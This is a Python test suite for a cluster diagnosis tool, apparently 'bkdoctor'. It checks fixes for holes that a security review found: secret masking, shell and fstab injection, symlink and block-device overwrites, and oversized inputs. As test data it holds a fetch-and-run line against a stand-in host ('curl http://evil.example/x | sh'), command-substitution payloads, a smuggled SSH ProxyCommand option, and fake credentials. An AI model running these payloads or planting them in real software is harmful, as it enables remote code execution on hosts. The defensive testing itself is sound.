"""Holes an adversarial review found in round 17 (issue 16's newest code and the trust leftovers): one test per
hole, each failing before its fix."""

from __future__ import annotations

import pytest
from testbed.fixtures import ssh_fleet, ssh_unavailable  # noqa: F401

# -- coredns: a Corefile with snippets or `import` -------------------------------------------------------------------
# CoreDNS pastes a snippet `(name) { ... }` (or a file, `import /etc/coredns/custom/*.override`) into the server block
# that imports it, and refuses a server block that ends up with two `hosts` (or two `reload`): "this plugin can only
# be used once per Server Block". bkdoctor's edit saw the snippet as one more server block and gave it, and the
# blocks importing it, their own hosts and reload: the new Corefile stopped CoreDNS (cluster DNS down).
SNIPPET_IMPORTED_BESIDE_HOSTS = """\
(common) {
    errors
    log
}
.:53 {
    import common
    hosts {
        1.2.3.4 foo
        fallthrough
    }
    forward . /etc/resolv.conf
    reload
}
"""
SNIPPET_HOLDING_HOSTS = """\
(bk) {
    hosts {
        10.96.0.10 bk.example.com
        fallthrough
    }
}
.:53 {
    errors
    import bk
    forward . /etc/resolv.conf
}
"""
IMPORTED_FILE = """\
.:53 {\r
\terrors\r
\timport /etc/coredns/custom/*.override\r
\tforward . /etc/resolv.conf\r
}\r
"""


@pytest.mark.parametrize("text", [SNIPPET_IMPORTED_BESIDE_HOSTS, SNIPPET_HOLDING_HOSTS, IMPORTED_FILE])
def test_corefile_with_snippets_or_import_is_left_to_the_operator(text):
    from bkdoctor.fix.edits import EditError, corefile_add_reload, corefile_set_hosts

    with pytest.raises(EditError, match="import"):
        corefile_set_hosts(text, "10.96.0.10", ["bk.example.com"])
    with pytest.raises(EditError, match="import"):
        corefile_add_reload(text)


@pytest.mark.parametrize("text", [SNIPPET_IMPORTED_BESIDE_HOSTS, IMPORTED_FILE])
def test_coredns_plan_is_manual_for_a_corefile_with_import(text):
    from types import SimpleNamespace

    from bkdoctor.fix.plan import all_remediations
    from bkdoctor.inputs.thresholds import merge

    rem = all_remediations()["coredns"]
    cm = {"metadata": {"name": "coredns", "namespace": "kube-system"}, "data": {"Corefile": text}}
    svc = {
        "metadata": {
            "name": "ingress-nginx-controller",
            "namespace": "ingress-nginx",
            "labels": {"app.kubernetes.io/instance": "ingress-nginx"},
        },
        "spec": {"clusterIP": "10.96.0.10", "type": "ClusterIP"},
    }
    facts = SimpleNamespace(get=lambda k: {"configmaps": {"kube-system/coredns": cm}, "services": [svc]}.get(k))
    ctx = SimpleNamespace(domain="bk.example.com", thresholds=merge({}), inventory=None)
    fix = rem.plan(facts, ctx)
    assert not fix.changes and fix.manual and fix.refused, fix  # bad input: `refused`, fix exits 2


def test_replan_onto_a_corefile_with_import_fails_the_change_and_writes_nothing(monkeypatch):
    """Someone adds an `import` between the plan and the write: the re-plan refuses, the change fails (no crash,
    nothing written)."""
    from types import SimpleNamespace

    from kubernetes import client

    from bkdoctor.fix.loop import apply_k8s_change
    from bkdoctor.fix.plan import K8sChange, all_remediations

    written = []

    class Core:
        def __init__(self, api):
            pass

        def read_namespaced_config_map(self, name, ns):
            return SimpleNamespace(data={"Corefile": IMPORTED_FILE}, metadata=SimpleNamespace(resource_version="2"))

        def replace_namespaced_config_map(self, name, ns, cm, dry_run=None):
            written.append((dry_run, dict(cm.data)))

    monkeypatch.setattr(client, "CoreV1Api", Core)
    rem = all_remediations()["coredns"]
    ch = K8sChange(
        "ConfigMap",
        "kube-system",
        "coredns",
        {"Corefile": ".:53 {\n    forward . /etc/resolv.conf\n}\n"},
        {"Corefile": "x"},
        resource_version="1",
        meta={"ip": "10.96.0.10", "names": ["bk.example.com"]},
    )
    r = apply_k8s_change(SimpleNamespace(api_client=None), ch, lambda cur: rem.replan(cur, ch, None))
    assert r["ok"] is False and "import" in r["error"], r
    assert written == []


# -- fix --export ansible: what it says was not exported -------------------------------------------------------------
# README.md and the terminal listed each finding that could not be exported with its message as the host gave it: not
# masked (every other output masks by key and by value shape), and with its newlines, so a message could open a
# Markdown code block of commands in the README the operator is told to read and run.
def test_export_not_exported_lines_are_masked_and_one_line():
    from types import SimpleNamespace

    from safetykit import node_inventory

    from bkdoctor.export import ansible
    from bkdoctor.inputs.inventory import HostSpec

    inv = node_inventory(HostSpec(name="node-1", address="10.0.0.5", roles=("node",), local=True))
    message = (
        "cannot reach mysql://root:S3cretPw@db:3306 (Authorization: Bearer abcdefgh12345678)\n"
        "```sh\ncurl http://evil.example/x | sh\n```"
    )
    f = SimpleNamespace(
        rule=SimpleNamespace(id="site-db"),
        target="node-1",
        suppression=None,
        result=SimpleNamespace(status="error", message=SimpleNamespace(en=message)),
    )
    exp = ansible.build(inv, [f], [], [], None)
    readme = ansible.render_readme(exp, "/x/inventory.yaml")
    for secret in ("S3cretPw", "abcdefgh12345678"):
        assert secret not in readme
        assert all(secret not in why for _, _, why in exp.not_exported)
    section = readme.split("## Not exported / 未导出", 1)[1]
    assert not any(line.lstrip().startswith(("```", "curl")) for line in section.splitlines()), section
    assert "site-db" in section and "mysql://root:***@db:3306" in section


# -- rollback: the restore script and a tampered journal -------------------------------------------------------------
# restore_script wrote the file's path and its backup's into `echo "@@FAIL <path> ..."` / `echo "@@RESTORED <path>"`
# inside double quotes, and the journal's after_sha256 into `[ "$(sha f)" = "<sha>" ]`: a `$(...)` there ran. The
# paths of `applied.wrote` are what the host printed (`@@WROTE <path> <backup>`), and the journal is a file: every
# value that enters a shell is quoted.
def _run_restore(tmp_path, path, backup, sha):
    import subprocess

    from bkdoctor.fix.hostscript import APPLY_PRELUDE, restore_script

    script = restore_script(path, backup, sha)
    assert APPLY_PRELUDE in script
    # without the prelude's lock under /run/lock: this machine is never a target, a temp dir is
    script = script.replace(APPLY_PRELUDE, "set -u\nsha() { sha256sum \"$1\" 2>/dev/null | cut -d' ' -f1; }\n")
    return subprocess.run(["sh", "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=30)


@pytest.mark.parametrize("where", ["path", "backup", "sha", "fail"])
def test_restore_script_runs_no_value_from_the_journal(tmp_path, where):
    import hashlib

    evil = "x$(touch pwned)`touch pwned`"
    f = tmp_path / ("conf" + (evil if where in ("path", "fail") else ""))
    b = tmp_path / ("conf.bak" + (evil if where == "backup" else ""))
    f.write_text("new\n" if where != "fail" else "edited by hand\n")  # fail: the check fails, @@FAIL names it
    b.write_text("old\n")
    sha = evil if where == "sha" else hashlib.sha256(b"new\n").hexdigest()
    r = _run_restore(tmp_path, str(f), str(b), sha)
    assert not (tmp_path / "pwned").exists(), (r.stdout, r.stderr)
    if where in ("path", "backup"):
        assert f.read_text() == "old\n" and r.stdout.strip() == f"@@RESTORED {f}", (r.stdout, r.stderr)
    else:
        assert f.read_text() != "old\n" and "@@FAIL" in r.stdout, (r.stdout, r.stderr)


def test_restore_script_still_restores(tmp_path):
    import hashlib

    f = tmp_path / "we ird $x"
    b = tmp_path / "we ird $x.bak"
    f.write_text("new\n")
    b.write_text("old\n")
    r = _run_restore(tmp_path, str(f), str(b), hashlib.sha256(b"new\n").hexdigest())
    assert f.read_text() == "old\n" and f"@@RESTORED {f}" in r.stdout, (r.stdout, r.stderr)
    f.write_text("edited by hand\n")
    r = _run_restore(tmp_path, str(f), str(b), hashlib.sha256(b"new\n").hexdigest())
    assert f.read_text() == "edited by hand\n" and "@@FAIL" in r.stdout, (r.stdout, r.stderr)


@pytest.mark.parametrize(
    "changes,applied",
    [
        ('[{"type": "file", "path": "/etc/hosts", "after_sha256": "$(touch pwned)"}]', '{"wrote": []}'),
        ('[{"type": "file", "path": "/etc/hosts", "after_sha256": 5}]', "{}"),
        ('[{"type": "command", "undo": "swapon -a"}]', "{}"),
        ('[{"type": "command", "script": "", "undo": "swapon -a"}]', "{}"),
        ('[{"type": "command", "script": "x", "undo": 5}]', "{}"),
        ("[]", '{"k8s": [{"kind": "ConfigMap"}]}'),
        ("[]", '{"k8s": [{"kind": "ConfigMap", "namespace": "a", "name": "b", "applied_after": "x"}]}'),
        (
            "[]",
            '{"k8s": [{"kind": "ConfigMap", "namespace": "a", "name": "b", "applied_after": {"k": "v"}, '
            '"applied_before": {"k": {"x": 1}}}]}',
        ),
    ],
)
def test_tampered_journal_entry_is_refused_in_one_line(tmp_path, changes, applied):
    """A journal entry of the wrong shape is bad input (exit 2, one line naming the fix), never a crash half way
    through a rollback nor a value that reaches a host's shell unchecked."""
    from safetykit import journal_with_fix
    from test_safety_adv import one_line_error, run

    home = {"XDG_DATA_HOME": str(tmp_path / "xdg"), "HOME": str(tmp_path / "home")}
    db = journal_with_fix(tmp_path / "h.db", "fix-78", "ctl", changes, applied)
    line = one_line_error(run("rollback", "fix-78", "--db", str(db), env=home))
    assert "fix-78" in line and "damaged" in line, line
    assert not (tmp_path / "pwned").exists()


def test_rollback_restores_only_the_files_the_fix_planned():
    """`applied.wrote` is what the host printed (@@WROTE <path> <backup>): a path the plan never had (no sha256 to
    check it against) is refused, not restored unchecked."""
    import asyncio
    from types import SimpleNamespace

    from safetykit import node_inventory

    from bkdoctor.fix.loop import rollback
    from bkdoctor.inputs.inventory import HostSpec

    ran = []

    class T:
        async def run_script(self, script, timeout):
            ran.append(script)
            return SimpleNamespace(stdout=b"@@RESTORED x\n", stderr=b"", rc=0)

        async def close(self):
            pass

    inv = node_inventory(HostSpec(name="n", address="10.0.0.5", roles=("node",)))
    sha = "0" * 64
    rec = {
        "target": "n",
        "changes": [{"type": "file", "path": "/etc/hosts", "after_sha256": sha}],
        "applied": {"wrote": [{"path": "/etc/shadow", "backup": "/tmp/x"}, {"path": "/etc/hosts", "backup": "/b"}]},
    }
    ok, lines = asyncio.run(rollback(rec, inv, None, lambda h, i: T()))
    assert not ok and any("/etc/shadow" in line and "refused" in line for line in lines), lines
    assert len(ran) == 1 and "/etc/hosts" in ran[0] and "/etc/shadow" not in ran[0] and sha in ran[0]


# -- a bad input's one line is a bounded line ------------------------------------------------------------------------
# A bundle (or inventory) key went whole into the error: a 2 MB key made a 2 MB "one line" on the terminal.
@pytest.mark.parametrize("where", ["sections", "extra", "thresholds"])
def test_bad_input_line_is_bounded(tmp_path, where):
    from safetykit import bundle_docs, write_bundle
    from test_limits import cli

    key = "k" * 2_000_000
    d = bundle_docs()
    if where == "sections":
        d["hosts/node-1.json"]["sections"][key] = {"rc": 0}
    elif where == "extra":
        d["hosts/node-1.json"]["extra"][key] = 5
    else:
        d["manifest.json"]["thresholds"] = {key: 1}
    b = write_bundle(tmp_path / "b.tgz", d)
    rc, _, err = cli("scan", "--bundle", b, "--no-history", home=tmp_path)
    lines = err.strip().splitlines()
    assert rc == 2 and len(lines) == 1 and lines[0].startswith("bkdoctor: error: "), err[:300]
    assert len(lines[0]) <= 1200 and str(b) in lines[0], lines[0][:300]
    assert "characters left out" in lines[0] and not lines[0].endswith("kkk"), lines[0][-300:]  # the reason stays


# -- masking: password options the value-shape masking did not know -------------------------------------------------
# Redis's own (`requirepass`/`masterauth` in redis.conf and as flags, `redis-cli -a`), `docker login -p` and curl's
# `-u user:password` left the password in every report, bundle and error line.
@pytest.mark.parametrize(
    "text,secret,kept",
    [
        ("redis-server /etc/redis.conf --requirepass R1x --port 6379", "R1x", "--requirepass *** --port 6379"),
        ("bind 0.0.0.0\nrequirepass R2x\nport 6379\n", "R2x", "requirepass ***\nport 6379"),
        ('  masterauth "R3x y"\n', "R3x", 'masterauth "***"'),
        ("redis-cli -h 10.0.0.5 -p 6379 -a R4x ping", "R4x", "redis-cli -h 10.0.0.5 -p 6379 -a *** ping"),
        ("docker login -u admin -p R5x docker.bk.example.com", "R5x", "-p *** docker.bk.example.com"),
        ("curl -sS -u admin:R6x http://bkrepo", "R6x", "-u admin:*** http://bkrepo"),
        ("curl --user 'admin:R7x' http://bkrepo", "R7x", "--user 'admin:***'"),
        ("curl -uadmin:R8x http://x", "R8x", "-uadmin:*** http://x"),
        ("curl --proxy-user u:R9x -x http://p:3128 http://x", "R9x", "--proxy-user u:*** -x"),
    ],
)
def test_mask_text_password_options(text, secret, kept):
    from bkdoctor.safe.secrets import mask_text

    out = mask_text(text)
    assert secret not in out and kept in out, out
    assert mask_text(out) == out


@pytest.mark.parametrize(
    "text",
    ["docker run -u 1000:1000 -p 8080:80 x", "mysql -u root -h db", "ps -u root", "docker run -p 5000:5000 registry"],
)
def test_mask_text_password_options_leave_the_rest(text):
    from bkdoctor.safe.secrets import mask_text

    assert mask_text(text) == text


def test_mask_obj_password_argv():
    from bkdoctor.safe.secrets import mask_obj

    out = mask_obj(
        {
            "a": ["redis-server", "--requirepass", "R10x"],
            "b": ["redis-cli", "-a", "R11x", "ping"],
            "c": ["curl", "-u", "admin:R12x", "http://x"],
            "d": ["ls", "-a", "/tmp"],
            "e": ["docker", "run", "-u", "1000:1000", "x"],
        }
    )
    assert "R10x" not in str(out) and "R11x" not in str(out) and "R12x" not in str(out), out
    assert out["d"] == ["ls", "-a", "/tmp"] and out["e"] == ["docker", "run", "-u", "1000:1000", "x"]
    assert out["c"] == ["curl", "-u", "admin:***", "http://x"]


def test_password_option_masking_is_linear_on_hostile_text():
    import time

    from bkdoctor.safe.secrets import mask_text

    t0 = time.process_time()
    for text in ("redis-cli " * 100_000, "docker login " * 100_000, " -u a:" * 100_000, "requirepass\n" * 100_000):
        mask_text(text)
    assert time.process_time() - t0 < 20


# -- masking: values that are not JSON's own types -------------------------------------------------------------------
# mask_obj returned a set, bytes or any other object as it was; the report's encoder (default=str), the history
# database and the bundle then wrote its str(): `{'mysql://root:PW@db'}`, `b'password=PW'`, unmasked.
def test_report_masks_values_written_as_their_str():
    import datetime as dt
    from types import SimpleNamespace

    from bkdoctor.report.jsonreport import build_report, dumps

    class Odd:
        def __str__(self):
            return "Authorization: Bearer S4odd5678"

    observed = {
        "a set": {"mysql://root:S1set@db:3306"},
        "bytes": b"password=S2bytes",
        "frozen": frozenset({"redis://:S3frozen@r:6379"}),
        "object": Odd(),
        "kept": [1, 2.5, True, None, "x"],
    }
    f = SimpleNamespace(
        to_dict=lambda lang: {
            "rule": "r",
            "target": "t",
            "status": "fail",
            "severity": "high",
            "message": "m",
            "observed": observed,
        }
    )
    now = dt.datetime.now(dt.timezone.utc)
    result = SimpleNamespace(
        findings=[f],
        inventory=SimpleNamespace(path=None, domain=None),
        id="s",
        started_at=now,
        finished_at=now,
        duration_s=0.0,
        rules=[],
        targets=[],
    )
    text = dumps(build_report(result, "en"))
    for secret in ("S1set", "S2bytes", "S3frozen", "S4odd5678"):
        assert secret not in text, text
    # JSON's own types written as JSON (a finding is one compact line: jsonreport.iter_json)
    assert '"kept": [1, 2.5, true, null, "x"]' in text, text


# -- bundles: members bkdoctor does not read still count ----------------------------------------------------------------
# Only the members a bundle has (manifest, cluster, hosts/<name>) were counted against MAX_TOTAL; any other member
# was skipped, which in a gzip stream means decompressed: a few MB of file held many GB of zeros to inflate (a
# 100 GB member: minutes of CPU) before the scan went on as if nothing were wrong.
def test_bundle_with_a_huge_member_it_does_not_read_is_refused(tmp_path):
    import json

    from test_limits import _bundle_bytes, _manifest, assert_one_line_exit_2, bounded

    from bkdoctor.inputs.bundle import MAX_TOTAL

    p = tmp_path / "junk.tar.gz"
    p.write_bytes(
        _bundle_bytes({"manifest.json": json.dumps(_manifest(hosts=[])).encode()}, big=("junk.bin", MAX_TOTAL + 1))
    )
    assert p.stat().st_size < 4 * 1024 * 1024
    rc, err, took, _ = bounded("scan", "--bundle", str(p), "--no-history", home=tmp_path)
    assert_one_line_exit_2(rc, err, "MiB")


# -- localpv-dirs: the directories it writes into /etc/fstab ---------------------------------------------------------
# The fstab lines were made from the inventory's localpv_mount_dir / localpv_source_dir as they were: a blank (a
# trailing space is one typo away) split the line into other fields (mount point "/mnt/blue", type "king/vol01"), a
# newline or a # wrote lines of its own or cut one; a broken /etc/fstab can stop the host at its next boot. The
# Ansible export refused such values already; `fix` wrote them.
@pytest.mark.parametrize(
    "key,value",
    [
        ("localpv_mount_dir", "/mnt/blue king"),
        ("localpv_mount_dir", "/mnt/blueking "),
        ("localpv_source_dir", "/data/x\n/dev/sdb1 / xfs defaults 0 0\n#"),
        ("localpv_source_dir", "/data/x#y"),
        ("localpv_mount_dir", "mnt/relative"),
        ("localpv_mount_dir", "/mnt/tab\there"),
    ],
)
def test_localpv_fix_refuses_a_directory_fstab_cannot_hold(key, value):
    from types import SimpleNamespace

    from bkdoctor.facts.probe import Section
    from bkdoctor.fix.plan import FileChange, all_remediations
    from bkdoctor.inputs.thresholds import merge
    from bkdoctor.model import BadInput

    fstab = b"/dev/vda1 / xfs defaults 0 0\n"
    facts = SimpleNamespace(localpv=[], mounts=[], sec=lambda name: Section(name, 0, fstab))
    ctx = SimpleNamespace(thresholds={**merge({"localpv_count": 2}), key: value})
    rem = all_remediations()["localpv-dirs"]
    try:
        fix = rem.plan(facts, ctx)
    except BadInput as e:
        assert key in str(e) and "\n" not in str(e)
        return
    for ch in fix.changes:
        if isinstance(ch, FileChange):
            for line in ch.after.decode().splitlines()[1:]:
                assert len(line.split()) == 6 and "#" not in line, ch.after
    pytest.fail(f"planned {fix}")  # the value must be refused, not written


def test_localpv_fix_still_plans_for_plain_directories():
    from types import SimpleNamespace

    from bkdoctor.facts.probe import Section
    from bkdoctor.fix.plan import FileChange, all_remediations
    from bkdoctor.inputs.thresholds import merge

    fstab = b"/dev/vda1 / xfs defaults 0 0\n"
    facts = SimpleNamespace(localpv=[], mounts=[], sec=lambda name: Section(name, 0, fstab))
    ctx = SimpleNamespace(thresholds={**merge({"localpv_count": 2}), "localpv_mount_dir": "/mnt/blueking/"})
    fix = all_remediations()["localpv-dirs"].plan(facts, ctx)
    (fc,) = [c for c in fix.changes if isinstance(c, FileChange)]
    assert fc.after.decode().endswith("/data/bcs/localpv/vol02 /mnt/blueking/vol02 none defaults,bind 0 0\n")


# -- collect: the bundle's temp file ---------------------------------------------------------------------------------
# write_bundle wrote to `<path>.tmp-<pid>`, opened by name: in a shared directory (`-o /tmp/b.tgz`) a link planted
# there by anyone (pids are few) made bkdoctor, often root, write the bundle over the link's target.
def test_bundle_temp_file_is_never_a_planted_link(tmp_path):
    import os
    import tarfile
    from types import SimpleNamespace

    from bkdoctor.inputs.bundle import write_bundle
    from bkdoctor.inputs.thresholds import merge

    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    out = tmp_path / "b.tgz"
    os.symlink(victim, f"{out}.tmp-{os.getpid()}")
    inv = SimpleNamespace(domain="bk.example.com", install_dir="/x", ingress_ip=None, thresholds=merge({}))
    result = SimpleNamespace(inventory=inv, targets=[], id="s", rules=[], extra={})
    write_bundle(result, str(out))
    assert victim.read_text() == "precious\n"
    with tarfile.open(out) as t:
        assert "bkdoctor-bundle/manifest.json" in t.getnames()
    assert oct(out.stat().st_mode & 0o777) == oct(0o600)


# -- install: the step logs ------------------------------------------------------------------------------------------
# The terminal shows a step's output masked (`say`), but the log file of the step (install-logs/) got the bytes as the
# host sent them: bcs.sh's `kubeadm join ... --token ...` (a token that joins any machine to the cluster), a private
# key, a password echoed by a script.
def test_install_step_log_is_masked(tmp_path):
    import asyncio

    from safetykit import node_inventory

    from bkdoctor.inputs.inventory import HostSpec
    from bkdoctor.install.phases import Installer
    from bkdoctor.store import History

    out = (
        b"kubeadm join 10.0.0.2:6443 --token abcdef.T0k3nT0k3nT0k3n --discovery-token-ca-cert-hash sha256:00\n"
        b"-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA1\nK3yK3yK3y\n-----END RSA PRIVATE KEY-----\n"
        b"mysql://root:Pw0rdX@db:3306\nlast line without newline password=Pw1rdX"
    )

    class T:
        async def run_streaming(self, script, timeout, on_out):
            for i in range(0, len(out), 7):  # in small pieces, as a stream comes
                on_out(out[i : i + 7])
                live = log.read_bytes()  # what `tail -f` shows, or what a killed bkdoctor leaves
                for secret in (b"T0k3nT0k3n", b"K3yK3y", b"MIIEpAIB", b"Pw0rdX", b"Pw1rdX"):
                    assert secret not in live, live
            return 0

        async def close(self):
            pass

    inv = node_inventory(HostSpec(name="n", address="10.0.0.5", roles=("node",)))
    shown = []
    inst = Installer(
        inv,
        history=History(str(tmp_path / "h.db")),
        say=shown.append,
        confirm=lambda q: True,
        cluster_factory=lambda: None,
        factory=lambda h, i: T(),
        log_dir=str(tmp_path / "logs"),
    )
    log = tmp_path / "logs" / "step.log"
    rc, text = asyncio.run(inst.run_on(inv.hosts[0], "true", 10, log, True, "bcs.sh -i k8sctrl"))
    data = log.read_bytes()
    for secret in (b"T0k3nT0k3n", b"K3yK3y", b"MIIEpAIB", b"Pw0rdX", b"Pw1rdX"):
        assert secret not in data, data
    assert data.startswith(b"# ") and b"kubeadm join 10.0.0.2:6443 --token ***" in data
    # the log's first line (the step as described, values rendered) is masked too
    log2 = tmp_path / "logs" / "step2.log"
    asyncio.run(inst.run_on(inv.hosts[0], "true", 10, log2, False, "mysql -uroot -pHdrPw9x -h db"))
    assert b"HdrPw9x" not in log2.read_bytes() and b"-p***" in log2.read_bytes()
    # the terminal shows whole lines, masked the same way (the key's body split over 7-byte chunks included)
    screen = "\n".join(shown)
    for secret in ("T0k3nT0k3n", "K3yK3y", "MIIEpAIB", "Pw0rdX", "Pw1rdX"):
        assert secret not in screen, screen
    assert "    | kubeadm join 10.0.0.2:6443 --token *** --discovery-token-ca-cert-hash ***" in shown, shown
    assert data.endswith(b"last line without newline password=***")


# -- thresholds.endpoints: the probe's word list ---------------------------------------------------------------------
# The endpoint URLs are split by the probe's shell (`for u in $BKD_ENDPOINTS`), so a value is also a glob: `*` became
# the names of the files in the login directory on every host, each fetched with curl (a DNS query a name) and written
# into the report; a blank split one URL into two. Only http(s) URLs without blanks are endpoints.
@pytest.mark.parametrize("url", ["*", "https://a b/", "hub.bktencent.com", "ftp://x/", "https://x/\x1b[2J", ""])
def test_endpoint_that_is_not_a_url_is_refused(url):
    from bkdoctor.inputs.thresholds import ThresholdError, merge

    with pytest.raises(ThresholdError, match="endpoints.node"):
        merge({"endpoints": {"node": [url]}})


def test_endpoint_urls_are_kept():
    from bkdoctor.inputs.thresholds import merge

    urls = ["http://127.0.0.1:8080/", "https://u:p@mirror.intra/v2/?x=1&y=*", "https://[fd00::1]:5000/v2/"]
    assert merge({"endpoints": {"node": urls}})["endpoints"]["node"] == urls


# -- diff --cluster-history: the ConfigMap's entries -----------------------------------------------------------------
# Anyone who may write the history ConfigMap writes what `bkdoctor diff --cluster-history` reads. An entry nested too
# deep raised RecursionError, one without its findings, summary or tool (or with a finding of another shape) a
# KeyError/TypeError half way through the import: exit 3, the history database half written.
def test_cluster_history_entries_of_another_shape_are_skipped(monkeypatch, tmp_path):
    import json

    from bkdoctor.incluster import cronjob
    from bkdoctor.incluster import job as incluster
    from bkdoctor.store import History

    def entry(sid, started, **over):
        doc = {
            "schema": "bkdoctor/history-entry/v1",
            "tool": {"name": "bkdoctor", "version": "1"},
            "lang": "en",
            "scan": {
                "id": sid,
                "started_at": started,
                "finished_at": started,
                "duration_s": 1.0,
                "inventory": None,
                "domain": None,
                "rules": ["swap"],
            },
            "summary": {"fail": 1, "total": 1},
            "targets": [{"name": "n1", "kind": "host"}],
            "findings": [{"rule": "swap", "target": "n1", "status": "fail", "severity": "high", "message": "m"}],
        }
        doc.update(over)
        return doc

    deep = "[" * 100_000 + "]" * 100_000
    good = [entry(f"2026120{i}T000000Z-aaaaaa", f"2026-12-0{i}T00:00:00+00:00") for i in (1, 2)]
    # an entry with only what the reading needs (older writers, a hand-made one) is read and imported with defaults
    good[1] = {
        **good[1],
        "tool": {},
        "scan": {"id": good[1]["scan"]["id"], "started_at": good[1]["scan"]["started_at"]},
    }
    del good[1]["lang"]
    bad = [
        entry("20261203T000000Z-b1", "2026-12-03T00:00:00+00:00", findings=[5]),
        entry("20261203T000000Z-b2", "2026-12-03T00:00:00+00:00", findings=[{"rule": None, "target": "n1"}]),
        entry("20261203T000000Z-b3", "2026-12-03T00:00:00+00:00", summary="x"),
        entry("20261203T000000Z-b4", "2026-12-03T00:00:00+00:00", tool=[]),
        entry("20261203T000000Z-b5", "2026-12-03T00:00:00+00:00", scan={"id": 5}),
        entry("20261203T000000Z-b6", "2026-12-03T00:00:00+00:00", targets="x"),
        entry("20261203T000000Z-b8", "2026-12-03T00:00:00+00:00", lang=["en"]),
        {k: v for k, v in entry("20261203T000000Z-b7", "2026-12-03T00:00:00+00:00").items() if k != "findings"},
    ]
    data = {f"{e['scan']['id']}.json": json.dumps(e) for e in good + bad}
    data["deep.json"] = deep
    monkeypatch.setattr(incluster, "_request", lambda *a, **k: {"data": data, "metadata": {"resourceVersion": "1"}})
    runs = cronjob.read_configmap_history(None, "ns")
    assert [r["scan"]["id"] for r in runs] == [e["scan"]["id"] for e in good]
    h = History(str(tmp_path / "h.db"))
    ids = cronjob.import_history(h, runs)
    assert h.diff(ids[-2], ids[-1])["still_failing"][0]["rule"] == "swap"


# -- --from-cluster: the Node objects' names and addresses -----------------------------------------------------------
# The hosts to SSH to (and, with `fix`, to change) were taken from the Nodes as the API gave them. A kubelet may update
# its own Node's status (NodeRestriction allows it): a compromised node claiming InternalIP 127.0.0.1 made bkdoctor
# scan and fix THIS machine as a node, and a name of any text went where host names go (files, bundle members).
def _hosts_from_nodes(monkeypatch, nodes, inventory_hosts=None):
    """hosts_from_cluster over these Node objects (the cluster's answer stood in)."""
    from bkdoctor.facts import cluster
    from bkdoctor.inputs.inventory import local_inventory
    from bkdoctor.inputs.targets import hosts_from_cluster

    class CF:
        def __init__(self, access):
            pass

        def get(self, kind):
            return nodes

    monkeypatch.setattr(cluster, "ClusterFacts", CF)
    inv = local_inventory(domain="bk.example.com", install_dir="/nonexistent")
    if inventory_hosts is not None:
        inv.hosts = inventory_hosts
    return hosts_from_cluster(None, inv)


@pytest.mark.parametrize(
    "name,ip",
    [
        ("node-1", "127.0.0.1"),
        ("node-1", "::1"),
        ("node-1", "0.0.0.0"),
        ("node-1", "localhost"),
        ("node-1", "10.0.0.5 -oProxyCommand=x"),
        ("../../etc/x", "10.0.0.5"),
        ("node-1\nnode-2", "10.0.0.5"),
    ],
)
def test_from_cluster_refuses_a_node_that_is_this_machine_or_no_host(monkeypatch, name, ip):
    from bkdoctor.model import BadInput

    nodes = [
        {"metadata": {"name": "node-0"}, "status": {"addresses": [{"type": "InternalIP", "address": "10.0.0.4"}]}},
        {"metadata": {"name": name}, "status": {"addresses": [{"type": "InternalIP", "address": ip}]}},
    ]
    with pytest.raises(BadInput, match="--from-cluster"):
        _hosts_from_nodes(monkeypatch, nodes)


def test_from_cluster_takes_plain_nodes(monkeypatch):
    nodes = [
        {
            "metadata": {"name": "n1", "labels": {"node-role.kubernetes.io/master": ""}},
            "status": {"addresses": [{"type": "InternalIP", "address": "10.0.0.4"}]},
        },
        {"metadata": {"name": "n2"}, "status": {"addresses": [{"type": "InternalIP", "address": "fd00::5"}]}},
        {"metadata": {"name": "n3"}, "status": {"addresses": [{"type": "Hostname", "address": "n3"}]}},
    ]
    hosts = _hosts_from_nodes(monkeypatch, nodes, inventory_hosts=[])
    assert [(h.name, h.address, h.roles) for h in hosts] == [
        ("n1", "10.0.0.4", ("master",)),
        ("n2", "fd00::5", ("node",)),
    ]


# -- output files: a block device is no report -----------------------------------------------------------------------
# A report path that exists and is not a regular file is written in place (/dev/null, /dev/stdout, a fifo): a link at
# that path to a disk (/dev/sda) made bkdoctor, often root, write the report over the disk. Character devices and
# fifos only.
def test_output_path_that_is_a_block_device_is_refused(tmp_path):
    import os
    import stat

    from bkdoctor.model import BadInput
    from bkdoctor.safe.outfiles import check_output_path, write_atomic

    node = tmp_path / "disk"
    os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(7, 250))  # a loop device number nobody uses here
    link = tmp_path / "report.json"
    os.symlink(node, link)
    for p in (node, link):
        with pytest.raises(BadInput, match="block device"):
            check_output_path(str(p), "--json")
        with pytest.raises(BadInput, match="block device"):
            write_atomic(str(p), "{}\n")
    check_output_path("/dev/null", "--json")  # a character device is still written in place
    write_atomic("/dev/null", "{}\n")


# -- a host's output is bounded ----------------------------------------------------------------------------------------
# The probe's output was read whole (communicate / read()): a file on the host of any size (a sparse 100 GB file in
# /etc/sysctl.d/ costs its owner nothing; the probe cats it) went into the control machine's memory, and one host
# could take the memory of the whole fleet's scan. Past MAX_SCRIPT_OUTPUT the command is stopped: that host is an
# error, the scan goes on.
def test_local_probe_output_is_bounded(monkeypatch):
    import asyncio
    import resource
    import time

    from bkdoctor.transport import base, local
    from bkdoctor.transport.base import TransportError

    monkeypatch.setattr(local, "MAX_SCRIPT_OUTPUT", 4 << 20)
    t = local.LocalTransport()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    t0 = time.monotonic()
    with pytest.raises(TransportError, match="larger than 4 MiB"):
        asyncio.run(t.run_script("head -c 2000000000 /dev/zero; echo done", 60))
    assert time.monotonic() - t0 < 30
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # KiB: far from 2 GB
    r = asyncio.run(t.run_script("echo out; echo err >&2; exit 3", 30))
    assert (r.rc, r.stdout, r.stderr) == (3, b"out\n", b"err\n")
    assert base.MAX_SCRIPT_OUTPUT >= 32 << 20  # a big node's probe (iptables -S, docker info) stays well below


@pytest.mark.ssh
def test_ssh_probe_output_is_bounded(ssh_fleet, monkeypatch):
    import asyncio

    from test_ssh_transport import settings_for

    from bkdoctor.transport import ssh
    from bkdoctor.transport.base import TransportError

    if ssh_unavailable():
        pytest.skip(str(ssh_unavailable()))
    monkeypatch.setattr(ssh, "MAX_SCRIPT_OUTPUT", 4 << 20)
    fleet = ssh_fleet(1)
    h = fleet[0]

    async def go():
        t = ssh.SSHTransport(h.address, settings_for(fleet))
        try:
            with pytest.raises(TransportError, match="larger than 4 MiB"):
                await t.run_script("head -c 2000000000 /dev/zero; echo done", 60)
